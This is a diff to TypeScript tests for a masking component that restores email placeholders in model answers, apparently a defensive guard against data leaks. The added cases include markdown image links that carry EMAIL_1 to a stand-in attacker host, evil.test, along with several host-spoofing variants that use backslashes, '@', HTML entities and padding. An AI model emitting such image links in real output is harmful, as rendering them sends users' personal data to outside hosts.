@@ -2,7 +2,11 @@ import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
 import fc from 'fast-check'
 import { createGrammar, findPlaceholderShaped } from '../../../../src/core/masking/placeholder.ts'
-import { createRestorer, restoreWhole } from '../../../../src/core/masking/restorer.ts'
+import {
+  createRestorer,
+  explainAnswer,
+  restoreWhole,
+} from '../../../../src/core/masking/restorer.ts'
 import { applyEdits, mappingOf } from '../../../support/mapping.ts'
 import {
   LEFT_ALONE,
@@ -48,8 +52,8 @@ describe('restoring', () => {
       '<img src="https:///good.example/? EMAIL_1">',
     )
     assert.equal(
-      restore('![x](<https:///good.example/? EMAIL_1>)', true, hosts),
-      '![x](<https:///good.example/? alice@x.vn>)',
+      restore('![x](https://good.example/?EMAIL_1) ![y](https://evil.test/?EMAIL_1)', true, hosts),
+      '![x](https://good.example/?alice@x.vn) ![y](https://evil.test/?EMAIL_1)',
     )
     for (const url of [
       '![x](<https://good.exa mple/EMAIL_1>)',
@@ -59,6 +63,13 @@ describe('restoring', () => {
       'https://good.example:x@evil.test/EMAIL_1',
       'https://evil.test/good.example/EMAIL_1',
       'https://EMAIL_1@good.example/',
+      '![x](https://good.example\\.evil.test/?EMAIL_1)',
+      '![x](https://good.example\\@evil.test/?EMAIL_1)',
+      '![x](https://good.example&sol;.evil.test/?EMAIL_1)',
+      '![x](https://good.example&quest;EMAIL_1)',
+      '![ https://good.example/x](https://evil.test/?EMAIL_1)',
+      '![x](https:///good.example/?EMAIL_1)',
+      `https://good.example/${'a'.repeat(2048)}EMAIL_1`,
     ]) {
       assert.equal(restore(url, true, hosts), url)
     }
@@ -132,6 +143,18 @@ describe('placeholder-shaped text', () => {
   })
 })
 
+describe('an explanation', () => {
+  it('names every placeholder of an answer in order, and what becomes of it', () => {
+    const text = 'EMAIL_1 ![x](https://y.vn/?EMAIL_1) EMAIL_7 <style>email_2'
+    assert.deepEqual(explainAnswer(text, options()), [
+      { placeholder: 'EMAIL_1', start: 0, outcome: 'restored' },
+      { placeholder: 'EMAIL_1', start: 27, outcome: 'link_target' },
+      { placeholder: 'EMAIL_7', start: 36, outcome: 'unknown' },
+      { placeholder: 'EMAIL_2', start: 51, outcome: 'html' },
+    ])
+  })
+})
+
 describe('a restorer', () => {
   it('counts what it restored and what it did not know, over all texts', () => {
     const counts = { restored: 0, unknown: 0 }
@@ -178,6 +201,37 @@ describe('a restorer', () => {
       applyEdits(text, restoreWhole(nine, text, { restored: 0, unknown: 0 })),
       'to nine@x.vn',
     )
+  })
+
+  it('counts what stays, by reason, also where it leaves in pieces', () => {
+    const restorer = createRestorer(options())
+    for (const piece of [
+      '![x](https://y.vn/?EM',
+      'AIL_',
+      '1',
+      '2&EMAIL_1',
+      '&EMAIL_3) <svg>EMAIL_2',
+      ' ',
+    ])
+      restorer.push(piece)
+    assert.equal(restorer.held, '')
+    assert.deepEqual(restorer.counts, {
+      restored: 0,
+      unknown: 1,
+      withheld: { link_target: 2, html: 1 },
+    })
+  })
+
+  it('waits behind what looks like a definition for the unit that says whether it is one', () => {
+    const restorer = createRestorer(options())
+    restorer.push('[ERROR]: EMAIL_1')
+    assert.equal(restorer.held, 'EMAIL_1')
+    restorer.push(' ')
+    assert.equal(restorer.held, 'EMAIL_1 ')
+    assert.deepEqual(restorer.push('is'), [{ start: 0, end: 0, replacement: 'alice@x.vn ' }])
+    restorer.push('\n[ERROR]: EMAIL_1 ')
+    assert.deepEqual(restorer.push('\n'), [{ start: 0, end: 0, replacement: 'EMAIL_1 ' }])
+    assert.equal(restorer.held, '')
   })
 
   it('lets go of what it holds when it is told to, and begins anew', () => {
